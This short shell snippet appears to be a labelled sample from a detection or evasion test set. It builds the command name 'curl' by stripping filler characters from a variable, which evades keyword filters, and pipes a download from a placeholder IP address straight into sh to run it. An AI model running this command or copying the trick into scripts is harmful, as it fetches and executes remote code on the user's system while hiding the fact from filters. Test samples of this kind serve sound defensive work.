# evasion: command name recovered by ${var//pattern/} removal
# grade: hard; does: download-exec
c=cQuQrQl
${c//Q/} -s http://203.0.113.5/s | sh
